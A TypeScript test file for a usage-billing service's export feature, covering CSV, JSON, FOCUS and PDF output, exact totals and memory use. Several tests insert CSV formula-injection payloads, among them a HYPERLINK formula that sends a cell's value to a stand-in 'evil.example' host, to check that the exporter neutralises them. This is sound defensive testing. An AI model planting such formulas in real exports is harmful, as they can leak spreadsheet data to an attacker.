/**
 * Usage export: every event of the range exactly once, in order, across batch boundaries; CSV that
 * a spreadsheet cannot mistake for formulas; totals equal to what ingest charged; and a large export in
 * flat memory (TALLY_EXPORT_ROWS rows; by default 1 000 000 on the Postgres server, 100 000 on PGlite).
 */
import v8 from 'node:v8';
import vm from 'node:vm';
import { extractText, getDocumentProxy } from 'unpdf';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dateIn } from '../src/domain/calendar.ts';
import { decimalUnits, formatCredits } from '../src/domain/money.ts';
import type { Ctx } from '../src/services/context.ts';
import { EXPORT_COLUMNS, exportUsage } from '../src/services/usage/exportUsage.ts';
import { FOCUS_COLUMNS } from '../src/services/usage/focusColumns.ts';
import { createOrgWithKey, minutesAgo, onServer, startTally, type TestTally } from './support/harness.ts';

let t: TestTally;
beforeAll(async () => {
  t = await startTally();
});
afterAll(() => t.close());

const operatorCtx = (): Ctx => ({
  db: t.db,
  config: t.config,
  prices: t.prices,
  principal: { kind: 'operator', id: 'op_test' },
  requestId: 'req_test',
});

const event = (id: string, n: number, overrides: Record<string, unknown> = {}) => ({
  id,
  member: `u${n % 3}`,
  feature: 'Chat',
  provider: 'openai',
  model: 'gpt-4o',
  occurred_at: minutesAgo(100 - n),
  usage: { input_tokens: 1000 + n, output_tokens: 200 },
  ...overrides,
});

/** A small RFC 4180 reader: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('usage export', () => {
  it('exports every event once, oldest first, as CSV, JSON Lines and JSON, with totals equal to what ingest charged', async () => {
    const { org, key } = await createOrgWithKey(t);
    const events = Array.from({ length: 12 }, (_, n) => event(`e${String(n).padStart(2, '0')}`, n));
    events[3] = event('e03', 3, { feature: 'Summarize, "quoted"\nnew line' });
    events[4] = event('e04', 4, { feature: '=HYPERLINK("http://evil")', workspace: 'ws-1' });
    // A member known by an email and no name is named by it, as the usage pages name them.
    await t.call('POST', `/v1/orgs/${org.id}/members`, {
      key,
      body: { external_id: 'u2', email: 'u2@example.com' },
    });
    const sent = await t.call('POST', '/v1/events', { key, body: { events } });
    expect(sent.body.results.every((r: { status: string }) => r.status === 'accepted')).toBe(true);
    // A removed member is exported as "Unknown user".
    const members = await t.call('GET', `/v1/orgs/${org.id}/members`, { key });
    const u1 = members.body.data.find((m: { external_id: string }) => m.external_id === 'u1');
    expect((await t.call('DELETE', `/v1/orgs/${org.id}/members/${u1.id}`, { key })).status).toBeLessThan(300);

    const res = await t.app.request(`/v1/orgs/${org.id}/usage/export?format=csv`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="usage-org_.*\.csv"/);
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    const data = rows.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]!])));
    expect(data.map((r) => r.event_id)).toEqual(events.map((e) => e.id));
    expect(data[3]!.feature).toBe('Summarize, "quoted"\nnew line');
    expect(data[4]!.feature).toBe(`'=HYPERLINK("http://evil")`);
    expect(data[4]!.workspace).toBe('ws-1');
    expect(data[1]!.member_name).toBe('Unknown user');
    expect(data[1]!.member_external_id).toBe('');
    expect(data[0]!.member_external_id).toBe('u0');
    expect(data[0]!.member_name).toBe('u0');
    expect(data[2]!.member_name).toBe('u2@example.com');
    // An org key does not see provider cost.
    expect(data.every((r) => r.provider_cost_usd === '')).toBe(true);

    // Exact totals: the export adds up to what ingest charged, to the micro-credit.
    const charged = sent.body.results.reduce(
      (sum: bigint, r: { credits: string }) => sum + decimalUnits(r.credits, 6),
      0n,
    );
    const total = data.reduce((sum, r) => sum + decimalUnits(r.credits!, 6), 0n);
    expect(formatCredits(total)).toBe(formatCredits(charged));

    const jsonl = await t.app.request(`/v1/orgs/${org.id}/usage/export?format=jsonl&feature=Chat`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(jsonl.headers.get('content-type')).toBe('application/x-ndjson');
    const lines = (await jsonl.text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toHaveLength(10);
    expect(Object.keys(lines[0])).toEqual([...EXPORT_COLUMNS]);

    const json = await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=json`, { key });
    expect(json.body.map((r: { event_id: string }) => r.event_id)).toEqual(data.map((r) => r.event_id));
    const empty = await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=json&feature=Nothing`, { key });
    expect(empty.body).toEqual([]);

    // Batches of 5 give the same rows as one batch (the keyset cursor neither skips nor repeats).
    const small = await exportUsage(operatorCtx(), org.id, {}, 'jsonl', { batchSize: 5 });
    const smallRows = (await new Response(small.stream).text())
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(smallRows.map((r) => r.event_id)).toEqual(data.map((r) => r.event_id));
    expect(smallRows.every((r) => r.provider_cost_usd !== null)).toBe(true);
  });

  it('exports the FOCUS column set: one usage charge per event, costs adding up to the default export', async () => {
    const { org, key } = await createOrgWithKey(t);
    const events = Array.from({ length: 6 }, (_, n) =>
      event(`f${n}`, n, { workspace: n % 2 ? 'ws-a' : undefined }),
    );
    events[2] = event('f2', 2, { feature: '@SUM(A1)', project: 'apollo' });
    expect((await t.call('POST', '/v1/events', { key, body: { events } })).status).toBe(200);
    const res = await t.app.request(`/v1/orgs/${org.id}/usage/export?format=csv&columns=focus`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/filename="usage-focus-org_.*\.csv"/);
    const [header, ...rows] = parseCsv(await res.text());
    expect(header).toEqual([...FOCUS_COLUMNS]);
    const focus = rows.map((r) => Object.fromEntries(FOCUS_COLUMNS.map((c, i) => [c, r[i]!])));
    const plain = (await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=json`, { key })).body as {
      event_id: string;
      cost: string;
      credits: string;
      occurred_at: string;
    }[];
    expect(focus.map((r) => r.x_EventId)).toEqual(plain.map((r) => r.event_id));
    focus.forEach((r, i) => {
      const p = plain[i]!;
      expect(r).toMatchObject({
        BilledCost: p.cost,
        EffectiveCost: p.cost,
        BillingCurrency: 'EUR',
        BillingAccountId: org.id,
        ChargeCategory: 'Usage',
        ChargeFrequency: 'Usage-Based',
        PricingQuantity: p.credits,
        PricingUnit: 'Credits',
        ResourceId: 'openai/gpt-4o',
        ServiceCategory: 'AI and Machine Learning',
      });
      // The charge period is the event's hour; the billing period the org's cycle around it.
      const at = Date.parse(p.occurred_at);
      expect(Date.parse(r.ChargePeriodStart!)).toBeLessThanOrEqual(at);
      expect(Date.parse(r.ChargePeriodEnd!) - Date.parse(r.ChargePeriodStart!)).toBe(3_600_000);
      expect(Date.parse(r.BillingPeriodStart!)).toBeLessThanOrEqual(at);
      expect(Date.parse(r.BillingPeriodEnd!)).toBeGreaterThan(at);
    });
    expect(focus[1]!.SubAccountId).toBe('ws-a');
    expect(focus[0]!.SubAccountId).toBe('');
    expect(focus[2]!.ServiceName).toBe(`'@SUM(A1)`);
    expect(JSON.parse(focus[2]!.Tags!)).toEqual({ project: 'apollo' });
    const sum = (xs: string[]) => xs.reduce((a, x) => a + decimalUnits(x, 12), 0n);
    expect(sum(focus.map((r) => r.BilledCost!))).toBe(sum(plain.map((r) => r.cost)));
  });

  it('renders the PDF usage report with the figures the API answers', async () => {
    const { org, key } = await createOrgWithKey(t, { name: 'Report Co' });
    expect(
      (
        await t.call('PUT', `/v1/orgs/${org.id}/limits`, {
          key,
          body: { alert_threshold: '0.01', allowed_limit: '10' },
        })
      ).status,
    ).toBe(200);
    const events = Array.from({ length: 8 }, (_, n) =>
      event(`p${n}`, n, {
        feature: n % 2 ? 'Summarize' : 'Chat',
        conversation_id: n < 5 ? 'conv-big' : 'conv-small',
      }),
    );
    expect((await t.call('POST', '/v1/events', { key, body: { events } })).status).toBe(200);
    const res = await t.app.request(`/v1/orgs/${org.id}/usage/export?format=pdf&range=7d`, {
      headers: { authorization: `Bearer ${key}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/pdf');
    expect(res.headers.get('content-disposition')).toMatch(/filename="usage-report-org_.*\.pdf"/);
    const pdf = new Uint8Array(await res.arrayBuffer());
    const { text } = await extractText(await getDocumentProxy(pdf), { mergePages: true });
    const summary = (await t.call('GET', `/v1/orgs/${org.id}/usage/summary?range=7d`, { key })).body;
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('Usage report');
    expect(flat).toContain('Report Co');
    expect(flat).toContain(`Spent: ${summary.credits} credits`);
    expect(flat).toContain(`Calls: ${summary.calls}`);
    const byFeature = (await t.call('GET', `/v1/orgs/${org.id}/usage/breakdown?by=feature&range=7d`, { key }))
      .body;
    for (const row of byFeature.data) expect(flat).toContain(`${row.label}: ${row.credits} credits`);
    expect(flat).toContain('conv-big');
    expect(flat.indexOf('conv-big')).toBeLessThan(flat.indexOf('conv-small'));
    expect(flat).toContain('Monthly limit: EUR 10.00');
    expect(flat).toContain('alert.threshold_crossed');

    const bad = await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=pdf&columns=focus`, { key });
    expect(bad.status).toBe(422);
    expect(bad.body.param).toBe('columns');
  });

  it("prints the report's rows so they add up to its total, under the org's own dates", async () => {
    const zone = 'America/Los_Angeles';
    const { org, key } = await createOrgWithKey(t, { currency: 'USD', timezone: zone, billing_mode: 'byom' });
    // 1 600 gpt-4o input tokens cost USD 0.004: three features of 0.004 each, 0.012 in all.
    const events = ['Chat', 'Search', 'Write'].map((feature, n) => ({
      ...event(`r${n}`, n, { feature }),
      usage: { input_tokens: 1_600 },
    }));
    expect((await t.call('POST', '/v1/events', { key, body: { events } })).status).toBe(200);
    const res = await t.app.request(`/v1/orgs/${org.id}/usage/export?format=pdf&range=7d`, {
      headers: { authorization: `Bearer ${key}` },
    });
    const pdf = new Uint8Array(await res.arrayBuffer());
    const flat = (await extractText(await getDocumentProxy(pdf), { mergePages: true })).text.replace(
      /\s+/g,
      ' ',
    );
    expect(flat).toContain('Spent: USD 0.01');
    const rows = [...flat.matchAll(/(Chat|Search|Write): USD (\d+\.\d{2})/g)].map((m) => m[2]!);
    expect(rows).toHaveLength(3);
    // Each is 0.004, printed 0.00 on its own: the rows now share the total's cent.
    expect(rows.reduce((sum, r) => sum + Math.round(Number(r) * 100), 0)).toBe(1);
    const summary = (await t.call('GET', `/v1/orgs/${org.id}/usage/summary?range=7d`, { key })).body;
    const lastDay = dateIn(zone, new Date(Date.parse(summary.range.end) - 1));
    expect(flat).toContain(`${dateIn(zone, new Date(summary.range.start))} to ${lastDay}, ${zone}`);
  });

  it('quotes every text cell a spreadsheet would run as a formula, the provider too, in both column sets', async () => {
    // A BYOK org keeps events of any provider and model, priced or not.
    const { org, key } = await createOrgWithKey(t, { billing_mode: 'byok' });
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const sent = await t.call('POST', '/v1/events', {
      key,
      body: {
        events: [
          {
            id: 'x1',
            member: 'u1',
            feature: 'Chat',
            provider: formula,
            model: 'm',
            occurred_at: minutesAgo(5),
            usage: { input_tokens: 10 },
          },
          {
            id: 'x2',
            member: '@SUM(1+1)',
            feature: 'Chat',
            provider: '-2+3',
            model: 'm',
            occurred_at: minutesAgo(4),
            usage: { input_tokens: 10 },
          },
        ],
      },
    });
    expect(sent.body.results.map((r: { status: string }) => r.status)).toEqual(['accepted', 'accepted']);
    for (const columns of ['tally', 'focus']) {
      const csv = await t.call('GET', `/v1/orgs/${org.id}/usage/export?range=1d&columns=${columns}`, { key });
      const cells = parseCsv(String(csv.body)).slice(1).flat();
      expect(
        cells.filter((c) => /^[=+\-@]/.test(c)),
        columns,
      ).toEqual([]);
      expect(cells, columns).toContain(`'${formula.toLowerCase()}`);
    }
  });

  it('shows what an event counts that is not tokens: in the activity log, the export and the FOCUS quantity', async () => {
    const { org, key } = await createOrgWithKey(t, { currency: 'USD' });
    const price = await t.call('POST', '/v1/prices', {
      body: {
        provider: 'acme',
        model: 'acme-image-1',
        component: 'images',
        price: '0.04',
        unit: 'per_image',
        currency: 'USD',
        org_id: org.id,
      },
    });
    expect(price.status, JSON.stringify(price.body)).toBe(201);
    // The price applies from its creation: the event comes after this process next reads prices.
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const picture = {
      id: 'img-1',
      member: 'u1',
      feature: 'Image generation',
      provider: 'acme',
      model: 'acme-image-1',
      occurred_at: new Date().toISOString(),
      usage: { images: 3 },
    };
    const sent = await t.call('POST', '/v1/events', { key, body: { events: [picture] } });
    expect(sent.body.results[0]).toMatchObject({ status: 'accepted', cost: '0.12' });

    const log = await t.call('GET', `/v1/orgs/${org.id}/usage/events?range=1d`, { key });
    expect(log.body.data[0]).toMatchObject({ id: 'img-1', usage: { images: 3 }, tokens: { total: 0 } });
    const [row] = (await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=json`, { key })).body;
    expect(row).toMatchObject({
      input_tokens: '0',
      images: '3',
      seconds: '0',
      requests: '0',
      web_searches: '0',
    });
    const [focus] = (
      await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=json&columns=focus`, { key })
    ).body;
    expect(focus).toMatchObject({ ConsumedQuantity: '3', ConsumedUnit: 'Images' });
  });

  it('refuses bad input with a problem', async () => {
    const { org, key } = await createOrgWithKey(t);
    const bad = await t.call('GET', `/v1/orgs/${org.id}/usage/export?format=xml`, { key });
    expect(bad.status).toBe(400);
    expect(bad.body.param).toBe('format');
    const columns = await t.call('GET', `/v1/orgs/${org.id}/usage/export?columns=cur`, { key });
    expect(columns.status).toBe(400);
    expect(columns.body.param).toBe('columns');
    const range = await t.call('GET', `/v1/orgs/${org.id}/usage/export?range=custom&from=nope`, { key });
    expect(range.status).toBe(400);
  });

  it('streams a large export in flat memory', async () => {
    const total = Number(process.env.TALLY_EXPORT_ROWS ?? (onServer ? 1_000_000 : 100_000));
    const { org } = await createOrgWithKey(t);
    await t.db.query(
      `INSERT INTO events (org_id, id, feature, provider, model, occurred_at, input_tokens, output_tokens, usage,
                           credits, cost, currency, provider_cost_usd, components, pricing, content_hash)
       SELECT $1, 'bulk-' || g, 'Chat', 'openai', 'gpt-4o', now() - interval '2 days' + g * interval '1 millisecond',
              1000, 200, '{"input_tokens":1000,"output_tokens":200}', 103500000, 1.035, 'EUR', 0.75, '{}', '{}', 'x'
         FROM generate_series(1, $2::int) AS g`,
      [org.id, total],
    );
    // A real collection now and then, so what is measured is what the export keeps, not GC lag.
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    gc();
    const before = process.memoryUsage();
    let peakRss = before.rss;
    let keptHeap = 0;
    const started = performance.now();
    const out = await exportUsage(operatorCtx(), org.id, { range: '7d' }, 'csv');
    const reader = out.stream.getReader();
    let lines = 0;
    let bytes = 0;
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.byteLength;
      for (const b of value) if (b === 10) lines++;
      const rss = process.memoryUsage().rss;
      if (rss > peakRss) peakRss = rss;
      if (++chunks % 50 === 0) {
        gc();
        const kept = process.memoryUsage().heapUsed - before.heapUsed;
        if (kept > keptHeap) keptHeap = kept;
      }
    }
    const seconds = (performance.now() - started) / 1000;
    const mib = (n: number) => Math.round(n / 2 ** 20);
    console.log(
      `export: ${total} rows, ${mib(bytes)} MiB of CSV in ${seconds.toFixed(1)} s; ` +
        `peak RSS ${mib(peakRss)} MiB (+${mib(peakRss - before.rss)}), heap kept after GC +${mib(keptHeap)} MiB`,
    );
    expect(lines).toBe(total + 1);
    // The export is ~95 bytes a row; what stays on the heap is a batch or two, whatever the total.
    expect(keptHeap).toBeLessThan(16 * 2 ** 20);
    expect(peakRss - before.rss).toBeLessThan(256 * 2 ** 20);
  }, 600_000);
});
